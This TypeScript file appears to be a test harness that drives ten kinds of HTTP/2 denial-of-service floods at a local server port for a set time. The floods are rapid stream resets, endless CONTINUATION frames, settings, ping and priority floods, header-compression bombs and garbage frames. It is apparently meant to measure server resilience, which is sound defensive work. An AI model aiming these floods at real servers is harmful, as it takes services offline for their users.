import { END_HEADERS, END_STREAM, frame, GET, literalBlock, POST, rawFrame } from "./http2.ts";
import { post, RawHttp2 } from "./raw-http2.ts";

/*
 * Every flood of HTTP/2 at once, again and again, in a process of its own, so that whoever measures beside it does not wait
 * for himself: `flood-process.ts <port> <seconds>`; prints how many connections it used.
 */
const port = Number(process.argv[2]);
const seconds = Number(process.argv[3]);
const EACH = 5;

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const times = (count: number, make: (i: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));

const RESETS = times(5_000, (i) => Buffer.concat([frame.headers(2 * i + 1, post("/slow")), frame.reset(2 * i + 1, 8)]));
const PROVOKED = times(3_000, (i) =>
  Buffer.concat([frame.headers(2 * i + 1, POST, END_HEADERS), frame.windowUpdate(2 * i + 1, 0)]),
);
const CONTINUATIONS = times(16, () => frame.continuation(1, Buffer.alloc(16_384), 0));
const SETTINGS = times(20_000, () => frame.settings());
const ASKS = times(2_000, () => Buffer.concat([frame.data(1, "x"), frame.ping()]));
const EMPTY = Buffer.concat([frame.headers(1, POST, END_HEADERS), times(50_000, () => frame.data(1, ""))]);
const PRIORITIES = times(50_000, (i) => frame.priority(2 * i + 1, 0));
const PAGES = times(100, (i) => frame.headers(2 * i + 1, post("/page")));
const GARBAGE = times(5_000, (i) => Buffer.alloc(97, (i * 31) & 0xff));
const BOMBS = (() => {
  const large = literalBlock([["x", "v".repeat(4_000)]]);
  large[0] = 0x40;
  const bomb = Buffer.concat([large, Buffer.alloc(12_000, 0xbe)]);
  return times(100, (i) => rawFrame(1, END_HEADERS | END_STREAM, 2 * i + 1, bomb));
})();

const pour = (bytes: Buffer) => (peer: RawHttp2) => peer.pour(bytes);

const FLOODS: readonly (readonly [flood: (peer: RawHttp2) => Promise<unknown>, ...settings: [number, number][]])[] = [
  [pour(RESETS)],
  [pour(PROVOKED)],
  [
    async (peer) => {
      await peer.pour(rawFrame(1, 0, 1, literalBlock(GET)));
      while (await peer.pour(CONTINUATIONS)) await pause(1);
    },
  ],
  [pour(SETTINGS)],
  [
    async (peer) => {
      // Asks with something in between, and never reads.
      peer.socket.pause();
      await peer.pour(frame.headers(1, post("/slow"), END_HEADERS));
      for (let i = 0; i < 30 && (await peer.pour(ASKS)); i++) await pause(1);
    },
  ],
  [pour(EMPTY)],
  [pour(PRIORITIES)],
  // Pages for windows of nothing.
  [pour(PAGES), [4, 0]],
  [pour(BOMBS)],
  [pour(GARBAGE)],
];

const until = performance.now() + seconds * 1_000;
let used = 0;

/** One of the fifty places: a connection that floods, until it is cut or the time is over, and then the next one. */
async function keepFlooding([flood, ...settings]: (typeof FLOODS)[number]): Promise<void> {
  while (performance.now() < until) {
    const peer = await RawHttp2.open(port, ...settings).catch(() => undefined);
    if (peer === undefined) continue;
    used++;
    await flood(peer);
    // What is not cut stays for a while, as a client would that waits for its answers.
    for (let i = 0; i < 20 && !peer.closed && performance.now() < until; i++) await pause(50);
    peer.close();
    // Fifty connections, not as many as a processor can open: those are another row's (N01).
    await pause(1_000);
  }
}

await Promise.all(FLOODS.flatMap((flood) => Array.from({ length: EACH }, () => keepFlooding(flood))));
console.log(used);
